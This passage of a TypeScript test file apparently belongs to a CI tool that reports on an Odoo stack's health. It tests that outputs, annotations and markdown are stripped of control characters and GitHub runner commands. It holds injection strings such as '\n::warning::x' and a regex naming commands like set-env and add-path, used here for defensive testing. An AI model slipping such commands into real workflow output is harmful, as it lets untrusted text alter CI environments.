      concluded("recovered", { headline: "Odoo is back", next: "Look at the drift." }),
    );
    expect(outputsOf(entries, "/tmp/report")).toEqual({
      status: "recovered",
      cause: "odoo-stopped",
      headline: "Odoo is back",
      next: "Look at the drift.",
      changed: "true",
      remedies: "start-stack,restart-odoo",
      plan: "",
      artifact: "",
      artifact_url: "",
      backup_artifact: "",
      report_directory: "/tmp/report",
    });
  });

  it("of a plan give what it is approved by", () => {
    const entries = journalOf(started, diagnosed(), { kind: "foreseen", steps: [] }, PLANNED);
    expect(outputsOf(entries, "").plan).toBe("4f1c0a9be27d6683-20261124T0250Z");
  });

  it("of a run that found nothing wrong say so, and that nothing was changed", () => {
    const entries = journalOf(started, diagnosed({ cause: "healthy" }), concluded("healthy"));
    expect(outputsOf(entries, "")).toMatchObject({
      status: "healthy",
      cause: "healthy",
      changed: "false",
      remedies: "",
    });
  });

  it("of a run that never concluded are unknown", () => {
    for (const events of [[], [started], [started, diagnosed({ cause: "healthy" })]]) {
      expect(outputsOf(journalOf(...events), "").status).toBe("unknown");
    }
  });

  it("of a run that was put right afterwards are those of the last conclusion", () => {
    const entries = journalOf(concluded("unknown"), concluded("cancelled"));
    expect(outputsOf(entries, "").status).toBe("cancelled");
  });
});

/** What the runner and a terminal obey, and what nobody sees. */
const UNSEEN = /[\p{Cc}\p{Cf}\u2028\u2029]/u;

describe("what a workflow may print", () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...HOSTILE,
      "::error::x",
      "##[group]",
      "\\n::warning::x",
      "\u202e",
      "\u200b",
      "\u0085",
      "\n",
      "\r",
    ),
    fc.string({ unit: "binary" }),
  );

  it("is one line without control characters, whatever was seen: every output, title and text", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 5 }), (pieces) => {
        const text = pieces.join("");
        const entries = fullJournal(text);
        for (const outputs of [outputsOf(entries, text), openOutputsOf(entries, text)]) {
          for (const value of Object.values(outputs)) {
            expect(value).not.toMatch(UNSEEN);
            expect(value.isWellFormed()).toBe(true);
          }
          for (const prose of [outputs.headline, outputs.next]) expectNoCommandWhenEchoed(prose);
          const annotation = annotationOf(outputs);
          expect(annotation?.title).not.toMatch(UNSEEN);
          expect(annotation?.text).not.toMatch(UNSEEN);
        }
      }),
      { numRuns: 150 },
    );
  });

  /** As bash prints it, and as dash does, which takes the two characters of `\\n` for the end of a line. */
  function expectNoCommandWhenEchoed(text: string): void {
    for (const line of [text, ...text.split(/\\[nr]|\\0?\d{1,3}|\\[abfvc]/)]) {
      expect(line.trimStart()).not.toMatch(
        /^::(?:add-mask|add-matcher|add-path|debug|echo|endgroup|error|group|notice|remove-matcher|save-state|set-env|set-output|stop-commands|warning)\b/i,
      );
      expect(line).not.toContain("##[");
    }
    expect(text.trimStart()).not.toMatch(/^::/);
  }

  it("keeps what programs compare and people read: words, paths and addresses", () => {
    const next = "Check 2001:db8::1 and fe80::add, not ::error:: or ##[error], in `C:\\\\x`.";
    const entries = journalOf(diagnosed(), concluded("unhealthy", { next }));
    expect(outputsOf(entries, "/tmp/a  b")).toMatchObject({
      status: "unhealthy",
      cause: "odoo-stopped",
      next: "Check 2001:db8::1 and fe80::add, not : :error:: or ## [error], in `C:\\\\x`.",
      report_directory: "/tmp/a  b",
    });
  });
});

describe("a line of any text", () => {
  it("shows all that it holds, and is no longer than was asked", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "binary", maxLength: 300 }),
        fc.integer({ min: 1, max: 50 }),
        (text, most) => {
          const line = oneLine(text, most);
          expect(isPlainLine(line)).toBe(true);
          expect(line.length).toBeLessThanOrEqual(most);
        },
      ),
    );
    expect(oneLine("a\r\nb\tc\u2028d\u0085e\u202ef\u001b[31mg\0")).toBe("a b c d ef[31mg");
    expect(oneLine("\u{1f98a}".repeat(300), 200)).toHaveLength(199);
  });
});

describe("exit codes and annotations", () => {
  // The table of design.md, `Statuses`.
  it.each([
    ["healthy", 0, 0, undefined],
    ["planned", 0, 0, "notice"],
    ["recovered", 0, 0, "notice"],
    ["degraded", 0, 1, "warning"],
    ["unhealthy", 1, 1, "error"],
    ["refused", 1, 1, "error"],
    ["unreachable", 1, 1, "error"],
    ["cancelled", 1, 1, "warning"],
    ["unknown", 1, 1, "error"],
  ] as const)("of %s are %i, with `fail_on: degraded` %i, and %s", (status, code, strict, level) => {
    expect(exitCodeOf(status, "unhealthy")).toBe(code);
    expect(exitCodeOf(status, "degraded")).toBe(strict);
    expect(annotationOf(outputsOf(journalOf(concluded(status)), ""))?.level).toBe(level);
  });

  it("of a recovery at which nobody was present, and of a recurrence, are a warning", () => {
    const recorded = (secondsSinceSame: number | undefined): Event => ({
      kind: "recovery-recorded",
      cause: "odoo-stopped",
      secondsSinceSame,
      earlier: 0,
      overridden: false,
    });
    const started = (unattended: boolean): Event => ({
      kind: "started",
      mode: "recover",
      version: "1",
      run: "a",
      host: "erp",
      unattended,
    });
    const levelOf = (...events: Event[]): string | undefined => {
      const entries = journalOf(...events, concluded("recovered"));
      return annotationOf(outputsOf(entries, ""), entries)?.level;
    };
    expect(levelOf(started(false), recorded(undefined))).toBe("notice");
    expect(levelOf(started(true), recorded(undefined))).toBe("warning");
    expect(levelOf(started(false), recorded(600))).toBe("warning");
  });

  it("fit: an annotation has fewer than 4,096 characters and says what to do next", () => {
    const long = concluded("unhealthy", { headline: "x".repeat(100_000), next: "y".repeat(100_000) });
    expect(annotationOf(outputsOf(journalOf(long), ""))?.text.length).toBeLessThan(4_096);
    const short = annotationOf(outputsOf(journalOf(concluded("refused", { next: "Wait for it." })), ""));
    expect(short?.text).toBe("it is refused. Next: Wait for it.");
  });
});

describe("markdown", () => {
  it("makes no formula and no reference to an issue of what was seen", () => {
    expect(plain("$a^2$ and $$b$$")).toBe("&#36;a^2&#36; and &#36;&#36;b&#36;&#36;");
    expect(plain("#7 acme/shop#7 GH-7 gh-x #x")).toBe(
      "&#35;\u200b7 acme/shop&#35;\u200b7 GH-\u200b7 gh-x &#35;x",
    );
  });

  it("keeps what is only text readable", () => {
    expect(plain("  shop-odoo-1  exited\nwith status 0 (at 12:00) ")).toBe(
      "shop-odoo-1 exited with status 0 (at 12:00)",
    );
    expect(code("a<b")).toBe("<code>a&lt;b</code>");
  });

  it("fences a block with more backticks than are in it, however many there are", () => {
    for (const count of [0, 1, 3, 10, 500]) {
      const text = `a\n${"`".repeat(count)}\nb`;
      const [first = "", ...rest] = block(text).split("\n");
      const fence = first.replace("text", "");
      expect(fence.length).toBeGreaterThan(Math.max(2, count));
      expect(rest.at(-1)).toBe(fence);
      expect(rest.slice(0, -1).join("\n")).toBe(text);
    }
  });
});
